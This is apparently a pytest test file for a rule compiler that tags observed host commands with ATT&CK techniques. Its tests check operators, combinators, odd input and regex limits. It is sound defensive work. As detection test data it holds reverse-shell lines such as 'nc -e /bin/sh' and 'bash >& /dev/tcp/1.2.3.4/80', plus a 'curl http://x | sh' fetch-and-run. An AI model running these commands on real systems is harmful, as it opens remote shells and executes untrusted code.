"""Compiled rules: operator semantics, combinators, odd input, the text cap and hostile patterns."""

from __future__ import annotations

import textwrap
from typing import Any

import pytest

from ttprules.compiler import MAX_EVIDENCE_CHARS, MAX_MATCH_CHARS, CompiledRule, RuleInvalid, compile_rule, compile_text
from ttprules.schema import Emit, parse_rule

MiB = 1024 * 1024


def rule_text(match: str, applies_to: str = '["observed:command"]', evidence: str = "[]") -> str:
    return (
        "rule_id: R0001\n"
        "rule_version: 1\n"
        "name: test\n"
        f"applies_to: {applies_to}\n"
        "match:\n"
        f"{textwrap.indent(textwrap.dedent(match), '  ')}"
        "emits:\n"
        "  - {tactic: TA0002, technique_id: T1059, sub_technique_id: T1059.004, confidence: 0.9}\n"
        f"evidence_fields: {evidence}\n"
    )


def compiled(match: str, **kwargs: str) -> CompiledRule:
    return compile_text(rule_text(match, **kwargs), "R0001.yaml")


def fact(v: Any = "bash -i", value_type: str = "string", **fields: Any) -> dict[str, Any]:
    record: dict[str, Any] = {
        "entity": "stigmem://node/host/web-1",
        "relation": "observed:command",
        "source": "stigmem://node/agent/edr",
        "scope": "local",
        "confidence": 0.8,
        "value": {"type": value_type, "v": v},
        "garden_id": None,
    }
    record.update(fields)
    return record


def leaf(field: str, op: str, operand: str) -> CompiledRule:
    return compiled(f"{{field: {field}, {op}: {operand}}}\n")


# -- the compiled rule ----------------------------------------------------------------------------


def test_compile_text_carries_the_rule():
    rule = compiled("{field: value.v, contains: bash}\n", evidence="[entity]")
    assert (rule.rule_id, rule.rule_version, rule.name) == ("R0001", 1, "test")
    assert rule.applies_to == ("observed:command",)
    assert rule.emits == (Emit("TA0002", "T1059", "T1059.004", 0.9),)
    assert rule.evidence_fields == ("entity",)


def test_compile_text_raises_rule_invalid_with_every_error():
    text = rule_text("{field: value.text, contains: bash}\n").replace("rule_version: 1", "rule_version: 0")
    with pytest.raises(RuleInvalid) as raised:
        compile_text(text, "R0001.yaml")
    assert [str(e) for e in raised.value.errors] == [
        "line 2: rule_version must be an integer from 1 to 2147483647, got 0",
        "line 6: unknown field 'value.text' (fields: entity, relation, source, scope, confidence, value.type, "
        "value.v, garden_id)",
    ]
    assert str(raised.value).startswith("line 2: rule_version must be")


def test_the_tree_is_compiled_once_not_interpreted_per_fact():
    parsed = parse_rule(rule_text("all: [{field: value.v, contains: bash}]\n"), "R0001.yaml").rule
    assert parsed is not None
    rule = compile_rule(parsed)
    parsed.match["all"][0]["contains"] = "no-such-text"  # the compiled closures must not look back
    assert rule.matches(fact("bash -i")) is True
    assert rule.matches(fact("sh")) is False


@pytest.mark.parametrize(
    ("relation", "expected"),
    [
        ("observed:command", True),
        ("observed:commands", False),
        ("observed:http:request", True),
        ("observed:http:", True),
        ("observed:http", False),
        ("memory:role", False),
        (None, False),
        (42, False),
    ],
)
def test_applies_exact_or_trailing_star_prefix(relation, expected):
    rule = compiled("{field: entity, exists: true}\n", applies_to='["observed:command", "observed:http:*"]')
    assert rule.applies(relation) is expected


def test_evidence_takes_the_listed_fields_present_in_the_fact():
    rule = compiled("{field: entity, exists: true}\n", evidence="[entity, value.v, confidence, garden_id]")
    assert rule.evidence(fact("nc -e /bin/sh")) == {
        "entity": "stigmem://node/host/web-1",
        "value.v": "nc -e /bin/sh",
        "confidence": 0.8,
    }
    assert rule.evidence(fact(42, "number"))["value.v"] == 42
    assert rule.evidence(fact("x" * 5000))["value.v"] == "x" * MAX_EVIDENCE_CHARS
    assert rule.evidence(fact(10**5000, "number")) == {"entity": "stigmem://node/host/web-1", "confidence": 0.8}
    assert rule.evidence("not a fact") == {}  # type: ignore[arg-type]


# -- operators ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("op", "operand", "value", "expected"),
    [
        ("regex", "'nc\\s+-e'", "nc  -e /bin/sh", True),
        ("regex", "'nc\\s+-e'", "nc -x", False),
        ("regex", "'^-e'", "nc -e", False),  # anchors mean what they say in a search
        ("regex", "'(?i)BASH'", "/bin/bash -i", True),
        ("contains", "/dev/tcp/", "bash >& /dev/tcp/1.2.3.4/80", True),
        ("contains", "/dev/tcp/", "bash >& /DEV/TCP/1.2.3.4/80", False),
        ("icontains", "/dev/tcp/", "bash >& /DEV/TCP/1.2.3.4/80", True),
        ("icontains", "straße", "STRASSE", True),  # case folding, not lower(): ß folds to ss
        ("icontains", "powershell", "cmd.exe", False),
        ("startswith", "curl", "curl http://x | sh", True),
        ("startswith", "curl", " curl http://x", False),
        ("endswith", "'| sh'", "curl http://x | sh", True),
        ("endswith", "'| sh'", "curl http://x | sh -", False),
        ("equals", "whoami", "whoami", True),
        ("equals", "whoami", "whoami ", False),
        ("in", "[id, whoami]", "whoami", True),
        ("in", "[id, whoami]", "hostname", False),
    ],
)
def test_text_operators(op, operand, value, expected):
    assert leaf("value.v", op, operand).matches(fact(value)) is expected


@pytest.mark.parametrize(
    ("op", "operand", "confidence", "expected"),
    [
        ("gt", "0.5", 0.8, True),
        ("gt", "0.8", 0.8, False),
        ("gte", "0.8", 0.8, True),
        ("lt", "0.8", 0.8, False),
        ("lt", "0.9", 0.8, True),
        ("lte", "0.8", 0.8, True),
        ("lte", "0.79", 0.8, False),
        ("equals", "0.8", 0.8, True),
        ("equals", "1", 1.0, True),
        ("in", "[0.5, 1]", 1.0, True),
        ("in", "[0.5, 1]", 0.8, False),
    ],
)
def test_numeric_operators_on_confidence(op, operand, confidence, expected):
    assert leaf("confidence", op, operand).matches(fact(confidence=confidence)) is expected


def test_numeric_operators_on_value():
    gt = leaf("value.v", "gt", "1000")
    assert gt.matches(fact(1001, "number")) is True
    assert gt.matches(fact(1000.5, "number")) is True
    assert gt.matches(fact(1000, "number")) is False
    # The stored text form of a number value counts as the number ...
    assert gt.matches(fact("1001", "number")) is True
    assert gt.matches(fact("1.5e+20", "number")) is True
    # ... but a string value holding digits is text, and booleans are never numbers.
    assert gt.matches(fact("1001", "string")) is False
    assert leaf("value.v", "gte", "1").matches(fact(True, "boolean")) is False
    assert gt.matches(fact(float("inf"), "number")) is False


def test_equals_number_is_numeric_and_equals_string_is_textual():
    number = leaf("value.v", "equals", "42")
    assert number.matches(fact(42, "number")) is True
    assert number.matches(fact(42.0, "number")) is True
    assert number.matches(fact("42", "string")) is False
    text = leaf("value.v", "equals", "'42'")
    assert text.matches(fact(42, "number")) is True  # str(42)
    assert text.matches(fact(42.0, "number")) is False  # str(42.0) == "42.0"
    assert text.matches(fact("42", "string")) is True


def test_in_mixes_strings_and_numbers():
    rule = leaf("value.v", "in", "[up, 1]")
    assert rule.matches(fact("up")) is True
    assert rule.matches(fact(1, "number")) is True
    assert rule.matches(fact(1.0, "number")) is True
    assert rule.matches(fact("1", "string")) is False
    assert rule.matches(fact(2, "number")) is False


def test_non_string_values_match_in_their_stored_text_form():
    assert leaf("value.v", "regex", "'^true$'").matches(fact(True, "boolean")) is True
    assert leaf("value.v", "equals", "'false'").matches(fact(False, "boolean")) is True
    assert leaf("value.v", "equals", "true").matches(fact(True, "boolean")) is True  # a YAML boolean operand
    assert leaf("value.v", "equals", "true").matches(fact("True")) is False
    assert leaf("value.v", "contains", "'.5'").matches(fact(42.5, "number")) is True
    assert leaf("value.v", "startswith", "'1e'").matches(fact(1e20, "number")) is True  # str(1e20) == "1e+20"


def test_exists():
    present = leaf("garden_id", "exists", "true")
    absent = leaf("garden_id", "exists", "false")
    assert present.matches(fact(garden_id="stigmem://node/garden/soc")) is True
    assert absent.matches(fact(garden_id="stigmem://node/garden/soc")) is False
    assert present.matches(fact(garden_id=None)) is False
    assert absent.matches(fact(garden_id=None)) is True
    record = fact()
    del record["garden_id"]
    assert absent.matches(record) is True
    # The v of a null value is absent.
    assert leaf("value.v", "exists", "false").matches(fact(None, "null")) is True
    assert leaf("value.v", "exists", "true").matches(fact(None, "null")) is False


@pytest.mark.parametrize(
    ("operand", "value", "expected"),
    [
        ("10.0.0.0/8", "10.1.2.3", True),
        ("10.0.0.0/8", "11.1.2.3", False),
        ("10.0.0.0/8", "10.1.2.3:443", True),
        ("10.0.0.0/8", "10.1.2.3/32", True),
        ("10.0.0.0/8", " 10.1.2.3 port 22", True),
        ("10.0.0.0/8", "host 10.1.2.3", False),  # only a leading address counts
        ("10.0.0.0/8", "10.1.2", False),
        ("10.0.0.0/8", "http://10.1.2.3/", False),  # URLs are not unpacked
        ("10.0.0.0/8", "::ffff:10.1.2.3", True),  # IPv4-mapped IPv6
        ("10.0.0.0/8", "::1", False),
        ("'2001:db8::/32'", "2001:db8::1", True),
        ("'2001:db8::/32'", "[2001:db8::1]:443", True),
        ("'2001:db8::/32'", "2001:db9::1", False),
        ("'2001:db8::/32'", "10.1.2.3", False),
        ("[192.168.0.0/16, 172.16.0.0/12]", "172.20.0.9", True),
        ("[192.168.0.0/16, 172.16.0.0/12]", "172.32.0.9", False),
    ],
)
def test_cidr(operand, value, expected):
    assert leaf("value.v", "cidr", operand).matches(fact(value)) is expected


def test_cidr_on_a_text_field():
    assert leaf("entity", "cidr", "192.0.2.0/24").matches(fact(entity="192.0.2.7")) is True


# -- combinators ----------------------------------------------------------------------------------


def test_all_any_not():
    rule = compiled(
        """\
        all:
          - field: relation
            startswith: "observed:"
          - any:
              - {field: value.v, contains: "nc -e"}
              - {field: value.v, contains: "/dev/tcp/"}
          - not: {field: source, startswith: "stigmem://node/rule/"}
        """
    )
    assert rule.matches(fact("nc -e /bin/sh")) is True
    assert rule.matches(fact("bash >& /dev/tcp/1.2.3.4/80")) is True
    assert rule.matches(fact("ls -la")) is False  # no any-branch
    assert rule.matches(fact("nc -e /bin/sh", source="stigmem://node/rule/R0001")) is False  # the not
    assert rule.matches(fact("nc -e /bin/sh", relation="memory:note")) is False  # the first all-branch


def test_not_of_a_missing_field_is_true():
    rule = compiled("not: {field: garden_id, contains: soc}\n")
    assert rule.matches(fact(garden_id=None)) is True
    assert rule.matches(fact(garden_id="stigmem://n/garden/soc")) is False


# -- odd input ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("op", "operand"),
    [
        ("contains", "x"),
        ("regex", "x"),
        ("icontains", "x"),
        ("startswith", "x"),
        ("endswith", "x"),
        ("equals", "x"),
        ("in", "[x]"),
        ("cidr", "10.0.0.0/8"),
    ],
)
def test_missing_fields_make_a_leaf_false(op, operand):
    rule = leaf("entity", op, operand)
    record = fact()
    del record["entity"]
    assert rule.matches(record) is False
    assert rule.matches(fact(entity=None)) is False


ODD_FACTS = [
    None,
    "observed:command",
    ["entity", "x"],
    {},
    {"value": "not a mapping", "confidence": "high"},
    {"value": {"type": "number", "v": "1e999999"}, "confidence": float("nan")},
    {"value": {"type": "number", "v": "12abc"}, "confidence": True},
    {"value": {"type": "string", "v": {"nested": "dict"}}, "entity": ["list"]},
    {"value": {"type": "number", "v": 10**5000}, "entity": 5},
    {"value": {"type": "string", "v": "lone \ud800 surrogate"}, "entity": b"bytes"},
]


@pytest.mark.parametrize("odd", ODD_FACTS)
def test_odd_input_never_raises(odd):
    rules = [
        leaf("value.v", "regex", "'surrogate$'"),
        leaf("value.v", "icontains", "X"),
        leaf("value.v", "gt", "0"),
        leaf("value.v", "equals", "1"),
        leaf("value.v", "in", "[a, 1, true]"),
        leaf("value.v", "cidr", "10.0.0.0/8"),
        leaf("confidence", "lte", "1"),
        leaf("entity", "contains", "'5'"),
        leaf("value.type", "exists", "false"),
    ]
    for rule in rules:
        assert isinstance(rule.matches(odd), bool)
        assert isinstance(rule.evidence(odd), dict)


def test_odd_values_are_not_numbers_or_text():
    assert leaf("value.v", "gt", "0").matches(ODD_FACTS[5]) is False  # "1e999999" is infinite
    assert leaf("value.v", "gt", "0").matches(ODD_FACTS[6]) is False  # "12abc" is no number
    assert leaf("confidence", "gt", "0").matches(ODD_FACTS[6]) is False  # True is no confidence
    assert leaf("value.v", "contains", "nested").matches(ODD_FACTS[7]) is False
    assert leaf("value.v", "contains", "'1'").matches(ODD_FACTS[8]) is False  # beyond int-to-str limits
    assert leaf("value.v", "gt", "0").matches(ODD_FACTS[8]) is True  # still a number
    assert leaf("value.v", "regex", "'surrogate$'").matches(ODD_FACTS[9]) is True


# -- bounded evaluation ---------------------------------------------------------------------------


def test_text_is_capped_before_matching():
    needle_inside = "a" * (MAX_MATCH_CHARS - 6) + "NEEDLE"
    needle_beyond = "a" * MAX_MATCH_CHARS + "NEEDLE"
    for op, operand in [("contains", "NEEDLE"), ("endswith", "NEEDLE"), ("regex", "'NEEDLE$'")]:
        rule = leaf("value.v", op, operand)
        assert rule.matches(fact(needle_inside, "text")) is True, op
        assert rule.matches(fact(needle_beyond, "text")) is False, op


def test_catastrophic_backtracking_patterns_evaluate_correctly_on_a_mebibyte():
    # Exponential for a backtracking engine; RE2 answers in linear time. The cap keeps the first
    # 64 Ki characters: "a"*(64 Ki - 1) + "!" still ends in "!", so (a+)+$ must not match.
    nested = leaf("value.v", "regex", "'(a+)+$'")
    hostile = "a" * (MAX_MATCH_CHARS - 1) + "!" + "a" * MiB
    assert nested.matches(fact(hostile, "text")) is False
    assert nested.matches(fact("b" * MiB + "aaa", "text")) is False  # the "aaa" lies beyond the cap
    assert nested.matches(fact("!" + "a" * 100, "text")) is True

    overlapping = leaf("value.v", "regex", "'(x+x+)+y'")
    assert overlapping.matches(fact("x" * MiB, "text")) is False
    assert overlapping.matches(fact("x" * 1000 + "y", "text")) is True
